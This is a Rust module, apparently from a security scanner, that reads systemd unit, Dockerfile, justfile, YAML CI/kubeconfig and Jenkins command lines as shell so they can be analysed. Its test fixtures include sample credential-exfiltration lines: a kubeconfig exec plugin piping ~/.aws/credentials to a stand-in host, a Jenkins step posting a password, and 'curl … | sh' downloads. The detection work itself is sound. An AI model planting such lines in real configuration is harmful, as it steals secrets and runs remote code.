//! Command lines kept in files that are not scripts, read as the shell
//! they are, line for line (every other line blanked, so findings keep
//! their line):
//! - a systemd unit's `ExecStart=`, `ExecStartPre=`… (their `-@:+!`
//!   prefixes dropped, `%h` as `$HOME`);
//! - a Dockerfile's `RUN` lines (continued lines joined where they stand)
//!   and its `ENTRYPOINT`/`CMD` in shell form;
//! - a YAML file's command keys (`run:`, `script:`, `command:`, `args:`…:
//!   CI files, compose files, Kubernetes manifests, a kubeconfig's `exec`
//!   plugin), inline, quoted, in lists or in block scalars.
//!
//! And code handed to an interpreter on a command line (`python3 -c "…"`,
//! `node -e '…'`), read as that language's code: [`inline_code`].

use super::{batch, names, Lang};

/// Whether `name` (a file name, lower case) is a systemd unit, a
/// Dockerfile, a justfile, YAML or a batch file.
pub(super) fn is_command_file(name: &str) -> bool {
    is_systemd_unit(name) || is_dockerfile(name) || is_justfile(name) || is_yaml(name) || batch::is_batch(name)
}

fn is_yaml(name: &str) -> bool {
    name.ends_with(".yml") || name.ends_with(".yaml")
}

fn is_justfile(name: &str) -> bool {
    name == "justfile" || name == ".justfile" || name.ends_with(".just")
}

fn is_systemd_unit(name: &str) -> bool {
    [".service", ".timer", ".socket", ".path"].iter().any(|e| name.ends_with(e))
}

fn is_dockerfile(name: &str) -> bool {
    name == "dockerfile" || name.starts_with("dockerfile.") || name.ends_with(".dockerfile") || name == "containerfile"
}

/// The command lines of a systemd unit or a Dockerfile, as shell, line for line.
pub(super) fn as_shell(name: &str, text: &str) -> String {
    let lines: Vec<&str> = text.split('\n').collect();
    let mut out: Vec<String> = vec![String::new(); lines.len()];
    if is_systemd_unit(name) {
        for (i, l) in lines.iter().enumerate() {
            let t = l.trim();
            let Some((key, value)) = t.split_once('=') else { continue };
            if key.trim().starts_with("Exec") {
                let cmd = value.trim().trim_start_matches(['-', '@', ':', '+', '!']);
                out[i] = cmd.replace("%h", "$HOME").replace("%u", "$USER");
            }
        }
        return out.join("\n");
    }
    if is_justfile(name) {
        return justfile_as_shell(&lines, out);
    }
    if is_yaml(name) {
        return yaml_as_shell(&lines, out);
    }
    if batch::is_batch(name) {
        return batch::as_shell(text);
    }
    let mut continued = false;
    for (i, l) in lines.iter().enumerate() {
        let t = l.trim_start();
        let body = if continued {
            Some(t)
        } else {
            let word = t.split_whitespace().next().unwrap_or("").to_ascii_uppercase();
            match word.as_str() {
                "RUN" | "ENTRYPOINT" | "CMD" => Some(t[word.len()..].trim_start()),
                "ADD" => {
                    out[i] = added_download(t[word.len()..].trim_start()).unwrap_or_default();
                    None
                }
                _ => None,
            }
        };
        let Some(body) = body else { continue };
        continued = body.trim_end().ends_with('\\');
        // The exec form (`["/usr/local/bin/init"]`) is one program, no shell.
        out[i] = if body.starts_with('[') {
            serde_json::from_str::<Vec<String>>(body).map(|v| v.join(" ")).unwrap_or_default()
        } else {
            // `RUN --mount=type=cache,target=/x --network=none cmd`: the
            // options are the builder's, not the command's.
            let mut cmd = body;
            while let Some(rest) = cmd.strip_prefix("--") {
                cmd = rest.split_once(char::is_whitespace).map_or("", |(_, r)| r.trim_start());
            }
            cmd.to_owned()
        };
    }
    out.join("\n")
}

/// A Dockerfile's `ADD https://… /dest` as the download it is, `curl -fsSL
/// URL -o /dest`: what a later `RUN` line does with `/dest` is then read as
/// it would be after a `curl`. A source pinned by `--checksum=` is the file
/// the author checked, and an archive or a local path is not a download.
fn added_download(args: &str) -> Option<String> {
    let words: Vec<&str> = args.split_whitespace().collect();
    if words.iter().any(|w| w.starts_with("--checksum")) {
        return None;
    }
    let plain: Vec<&str> = words.into_iter().filter(|w| !w.starts_with("--")).collect();
    let [url, dest] = plain[..] else { return None };
    let lower = url.to_ascii_lowercase();
    (lower.starts_with("https://") || lower.starts_with("http://")).then(|| format!("curl -fsSL {url} -o {dest}"))
}

/// A justfile's recipes (the indented lines under `name:`), their `@`
/// dropped and `{{x}}` as `${x}`, and its `x := value` settings as shell
/// assignments, line for line.
fn justfile_as_shell(lines: &[&str], mut out: Vec<String>) -> String {
    let interpolate = |s: &str| s.replace("{{", "${").replace("}}", "}").replace("${ ", "${").replace(" }", "}");
    let mut in_recipe = false;
    for (i, l) in lines.iter().enumerate() {
        if l.trim().is_empty() || l.trim_start().starts_with('#') {
            continue;
        }
        if l.starts_with([' ', '\t']) {
            if in_recipe {
                out[i] = interpolate(l.trim_start().trim_start_matches(['@', '-']));
            }
            continue;
        }
        in_recipe = false;
        if let Some((name, value)) = l.split_once(":=") {
            let name = name.trim().trim_start_matches("export ").trim();
            if !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                out[i] = format!("{name}={}", interpolate(value.trim()));
            }
        } else if l.contains(':') && !l.starts_with("set ") {
            in_recipe = true;
        }
    }
    out.join("\n")
}

/// Keys whose values are command lines: GitHub's, GitLab's and Bitbucket's
/// CI, compose files, Kubernetes containers and a kubeconfig's `exec`
/// plugin, Taskfiles.
const YAML_COMMAND_KEYS: &[&str] = &[
    "run",
    "script",
    "before_script",
    "after_script",
    "after-script",
    "command",
    "commands",
    "args",
    "cmd",
    "cmds",
    "entrypoint",
];

/// A YAML file's command lines, as shell, line for line: the value of a
/// command key (plain, quoted, a `[…]` list, or a block scalar: a folded
/// one joined onto its first line, as YAML reads it), and the items of a
/// list under such a key. A CI expression (`${{ … }}`) is a neutral word
/// (what it stands for is the CI's to say), except a secret's
/// (`${{ secrets.NAME }}`, `${{ github.token }}`), which reads as the secret
/// variable it is.
fn yaml_as_shell(lines: &[&str], mut out: Vec<String>) -> String {
    let expr = |s: &str| {
        let mut s = s.to_owned();
        while let Some(a) = s.find("${{") {
            let Some(b) = s[a..].find("}}") else { break };
            let word = ci_secret(&s[a + 3..a + b]).unwrap_or_else(|| "CI_EXPR".to_owned());
            s.replace_range(a..a + b + 2, &word);
        }
        s
    };
    // The indent of the key whose value is the list below it, and whether
    // that key holds commands.
    let mut list_of: Option<(usize, bool)> = None;
    let mut i = 0;
    while i < lines.len() {
        let line = lines[i].trim_end_matches('\r');
        let t = line.trim_start();
        let indent = line.len() - t.len();
        i += 1;
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        if list_of.is_some_and(|(k, _)| indent < k || (indent == k && !t.starts_with('-'))) {
            list_of = None;
        }
        let (item, rest) = match t.strip_prefix("- ") {
            Some(r) => (true, r.trim_start()),
            None => (false, t),
        };
        let (key, value) = match yaml_key(rest) {
            Some((k, v)) => (Some(k), v),
            None => (None, rest),
        };
        let commands = match key {
            Some(k) => YAML_COMMAND_KEYS.contains(&k),
            None => item && list_of.is_some_and(|(_, c)| c),
        };
        if key.is_some() && value.is_empty() {
            list_of = Some((indent, commands));
            continue;
        }
        if let Some(folded) = block_scalar(value) {
            let first = i;
            while i < lines.len() {
                let l = lines[i].trim_end_matches('\r');
                let t = l.trim_start();
                if !t.is_empty() && l.len() - t.len() <= indent {
                    break;
                }
                i += 1;
            }
            if commands {
                if folded {
                    let joined: Vec<&str> =
                        lines[first..i].iter().map(|l| l.trim()).filter(|l| !l.is_empty()).collect();
                    if first < i {
                        out[first] = expr(&joined.join(" "));
                    }
                } else {
                    for (j, l) in lines.iter().enumerate().take(i).skip(first) {
                        out[j] = expr(l.trim());
                    }
                }
            }
            continue;
        }
        if commands {
            out[i - 1] = expr(&yaml_scalar(value));
        }
    }
    out.join("\n")
}

/// The shell variable a CI expression's secret reads as: `${{ secrets.NAME }}`
/// as `${NAME}` (as `${SECRET_NAME}` when the name does not say it is a
/// secret: every repository secret is one), `${{ github.token }}` as
/// `${GITHUB_TOKEN}`.
fn ci_secret(inner: &str) -> Option<String> {
    let inner = inner.trim();
    if inner.eq_ignore_ascii_case("github.token") {
        return Some("${GITHUB_TOKEN}".to_owned());
    }
    let name = inner.strip_prefix("secrets.")?;
    if name.is_empty() || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
        return None;
    }
    Some(if names::is_secret_name(name) { format!("${{{name}}}") } else { format!("${{SECRET_{name}}}") })
}

/// `key: value` split at its colon (a plain key of word characters), the
/// value with its comment dropped when plain.
fn yaml_key(s: &str) -> Option<(&str, &str)> {
    let (key, value) = s.split_once(':')?;
    let key = key.trim().trim_matches(['"', '\'']);
    if key.is_empty() || !key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
        return None;
    }
    if !value.is_empty() && !value.starts_with([' ', '\t']) {
        return None;
    }
    let value = value.trim();
    let value = if value.starts_with(['"', '\'', '[']) { value } else { value.split(" #").next().unwrap_or("").trim() };
    Some((key, value))
}

/// Whether `value` opens a block scalar, and whether it is folded (`>`).
fn block_scalar(value: &str) -> Option<bool> {
    let head = value.split(" #").next().unwrap_or("").trim();
    let mut chars = head.chars();
    let folded = match chars.next()? {
        '>' => true,
        '|' => false,
        _ => return None,
    };
    chars.all(|c| matches!(c, '-' | '+' | '1'..='9')).then_some(folded)
}

/// A scalar's text: unquoted, or a `[…]` list's items (the script given
/// to `-c` alone, when there is one).
fn yaml_scalar(value: &str) -> String {
    if value.starts_with('[') {
        let items: Vec<String> = serde_json::from_str::<Vec<String>>(value).unwrap_or_else(|_| {
            value.trim_matches(['[', ']']).split(',').map(|w| w.trim().trim_matches(['"', '\'']).to_owned()).collect()
        });
        return match items.iter().position(|w| w == "-c") {
            Some(c) if c + 1 < items.len() => items[c + 1].clone(),
            _ => items.join(" "),
        };
    }
    if let Some(inner) = value.strip_prefix('"').and_then(|v| v.strip_suffix('"')) {
        return inner.replace("\\\"", "\"").replace("\\\\", "\\");
    }
    if let Some(inner) = value.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')) {
        return inner.replace("''", "'");
    }
    value.to_owned()
}

/// Code given to an interpreter on a command line of `shell`
/// (`python3 -c "…"`, `node -e '…'`): (its language, the line it starts on,
/// the code). At most four.
pub(super) fn inline_code(shell: &str) -> Vec<(Lang, usize, String)> {
    static INLINE: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r#"(?:^|[\s;&|(/])(?P<prog>python[23]?(?:\.\d+)?|node|nodejs)[ \t]+(?:-[A-Za-z]+[ \t]+)*?-(?P<flag>c|e|-eval)[ \t]+(?P<q>["'])"#).unwrap()
    });
    let mut out = Vec::new();
    for c in INLINE.captures_iter(shell) {
        let (Some(prog), Some(q)) = (c.name("prog"), c.name("q")) else { continue };
        let lang = if prog.as_str().starts_with("python") { Lang::Python } else { Lang::JavaScript };
        if (lang == Lang::Python) != (c.name("flag").map(|f| f.as_str()) == Some("c")) {
            continue;
        }
        let Some(code) = quoted(&shell[q.start()..]) else { continue };
        // A unit file's `\n` escapes are its lines.
        let code = if code.contains('\n') { code } else { code.replace("\\n", "\n").replace("\\t", "\t") };
        if code.trim().is_empty() {
            continue;
        }
        out.push((lang, shell[..q.start()].matches('\n').count() + 1, code));
        if out.len() >= 4 {
            break;
        }
    }
    out
}

/// The text of the shell word quoted at the start of `s` (`"…"` with its
/// `\"`, `\\`, `\$` and `` \` `` escapes, or `'…'`), when it closes.
fn quoted(s: &str) -> Option<String> {
    let mut chars = s.chars();
    let q = chars.next()?;
    let mut out = String::new();
    let mut escaped = false;
    for c in chars {
        if q == '"' && escaped {
            if !matches!(c, '"' | '\\' | '$' | '`') {
                out.push('\\');
            }
            out.push(c);
            escaped = false;
        } else if q == '"' && c == '\\' {
            escaped = true;
        } else if c == q {
            return Some(out);
        } else {
            out.push(c);
        }
        if out.len() > 64 * 1024 {
            return None;
        }
    }
    None
}

/// A Jenkins pipeline's shell steps (`sh 'cmd'`, `sh "cmd"`, `sh '''…'''`,
/// `sh """…"""`, `sh(script: '…')`, and `bat` alike), as shell, line for
/// line, every other line blank: the Groovy around them is read apart.
/// Groovy's `${env.X}` is the shell's `${X}`, as the names a
/// `withCredentials` binds are the environment's in the step. `None` when
/// the file has no step.
pub(super) fn pipeline_steps(text: &str) -> Option<String> {
    static STEP: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(
            r#"(?:^|[^A-Za-z0-9_.])(?:sh|bat)[ \t]*(?:\([ \t]*(?:script[ \t]*:[ \t]*)?)?(?P<q>'''|"""|'|")"#,
        )
        .unwrap()
    });
    let mut out: Vec<String> = vec![String::new(); text.split('\n').count()];
    let mut found = false;
    for c in STEP.captures_iter(text) {
        let Some(q) = c.name("q") else { continue };
        let rest = &text[q.end()..];
        let end = if q.len() == 3 {
            rest.find(q.as_str())
        } else {
            // A one-line string: up to its closing quote, not escaped.
            let b = rest.split('\n').next().unwrap_or("").as_bytes();
            let quote = q.as_str().as_bytes()[0];
            (0..b.len()).find(|&i| b[i] == quote && (i == 0 || b[i - 1] != b'\\'))
        };
        let Some(end) = end else { continue };
        let body = rest[..end].replace("${env.", "${").replace("$env.", "$");
        let first = text[..q.end()].matches('\n').count();
        for (k, l) in body.split('\n').enumerate() {
            if let Some(slot) = out.get_mut(first + k) {
                if !slot.is_empty() {
                    slot.push_str("; ");
                }
                slot.push_str(l);
                found = true;
            }
        }
    }
    found.then(|| out.join("\n"))
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_pipelines_shell_steps_are_shell_at_their_lines() {
        let jf = "pipeline {\n  steps {\n    sh 'mvn -B verify'\n    sh \"\"\"\n      curl -d \"${env.NEXUS_PASS}\" https://h.invalid/x\n    \"\"\"\n    echo 'done'\n  }\n}\n";
        let sh = super::pipeline_steps(jf).expect("steps");
        let lines: Vec<&str> = sh.split('\n').collect();
        assert_eq!(lines[2], "mvn -B verify");
        assert_eq!(lines[4].trim(), "curl -d \"${NEXUS_PASS}\" https://h.invalid/x");
        assert_eq!(lines[6], "");
        assert!(super::pipeline_steps("pipeline { steps { echo 'hi' } }\n").is_none());
    }

    use super::*;

    #[test]
    fn a_units_exec_lines_and_a_dockerfiles_run_lines_are_shell_at_their_lines() {
        let unit = "[Service]\nType=simple\nExecStartPre=-/bin/sh -c 'true'\nExecStart=%h/bin/agent --x\n";
        let sh = as_shell("a.service", unit);
        assert_eq!(sh.split('\n').collect::<Vec<_>>(), vec!["", "", "/bin/sh -c 'true'", "$HOME/bin/agent --x", ""]);
        let docker = "FROM alpine\nRUN --mount=type=cache,target=/var/cache/apk apk add curl \\\n && curl -s https://x.invalid/a -o /a\nENV A=1\nENTRYPOINT [\"/a\", \"-d\"]\n";
        let sh = as_shell("dockerfile", docker);
        assert_eq!(
            sh.split('\n').collect::<Vec<_>>(),
            vec!["", "apk add curl \\", "&& curl -s https://x.invalid/a -o /a", "", "/a -d", ""]
        );
        assert!(is_command_file("dockerfile") && is_command_file("x.service") && !is_command_file("service.md"));
        // `ADD` of an address is a download; pinned, or of a local path, it is not.
        let add = "ADD https://x.invalid/get-pip.py /tmp/get-pip.py\nADD --checksum=sha256:ab https://x.invalid/a /a\nADD ./src /src\nADD --chmod=755 http://x.invalid/b /b\n";
        assert_eq!(
            as_shell("dockerfile", add).split('\n').collect::<Vec<_>>(),
            vec![
                "curl -fsSL https://x.invalid/get-pip.py -o /tmp/get-pip.py",
                "",
                "",
                "curl -fsSL http://x.invalid/b -o /b",
                ""
            ]
        );
        let just = "set shell := [\"bash\", \"-c\"]\nhost := \"x.invalid\"\n\n# check\ndoctor:\n    @curl -s {{ host }}/a\n    echo ok\n";
        let sh = as_shell("justfile", just);
        assert_eq!(
            sh.split('\n').collect::<Vec<_>>(),
            vec!["", "host=\"x.invalid\"", "", "", "", "curl -s ${host}/a", "echo ok", ""]
        );
    }

    #[test]
    fn a_yaml_files_command_keys_are_shell_at_their_lines() {
        let kubeconfig = "users:\n  - name: sso\n    user:\n      exec:\n        command: sh\n        args:\n          - -c\n          - >-\n            (cat \"$HOME/.aws/credentials\" |\n            curl -d @- https://x.invalid/a &);\n            printf ok\n        env: []\n";
        let sh = as_shell("kubeconfig.yaml", kubeconfig);
        assert_eq!(
            sh.split('\n').collect::<Vec<_>>(),
            vec![
                "",
                "",
                "",
                "",
                "sh",
                "",
                "-c",
                "",
                "(cat \"$HOME/.aws/credentials\" | curl -d @- https://x.invalid/a &); printf ok",
                "",
                "",
                "",
                ""
            ]
        );
        let workflow = "on: push\njobs:\n  b:\n    steps:\n      - run: echo \"${{ secrets.T }}\" # note\n      - name: x\n        run: |\n          make\n          make test\n        with:\n          description: |\n            run: curl x | sh\n";
        let sh = as_shell("ci.yml", workflow);
        assert_eq!(
            sh.split('\n').collect::<Vec<_>>(),
            vec!["", "", "", "", "echo \"${SECRET_T}\"", "", "", "make", "make test", "", "", "", ""]
        );
        let compose = "services:\n  a:\n    command: [\"sh\", \"-c\", \"curl -s https://x.invalid | sh\"]\n    entrypoint: 'run.sh --it''s'\n";
        let sh = as_shell("docker-compose.yml", compose);
        assert_eq!(
            sh.split('\n').collect::<Vec<_>>(),
            vec!["", "", "curl -s https://x.invalid | sh", "run.sh --it's", ""]
        );
    }

    #[test]
    fn inline_interpreter_code_is_found_with_its_line() {
        let sh = "echo hi\n/usr/bin/python3 -c \"import os\\nprint(os.environ)\" && node -e 'fetch(\"https://x.invalid\")'\n";
        let found = inline_code(sh);
        assert_eq!(found.len(), 2);
        assert_eq!((found[0].0, found[0].1, found[0].2.as_str()), (Lang::Python, 2, "import os\nprint(os.environ)"));
        assert_eq!(
            (found[1].0, found[1].1, found[1].2.as_str()),
            (Lang::JavaScript, 2, "fetch(\"https://x.invalid\")")
        );
        // `python -m`, an unclosed quote, `node -c` (a check, not code) are not.
        assert!(inline_code("python -m http.server\npython3 -c \"unclosed\nnode -c 'x'").is_empty());
    }
}
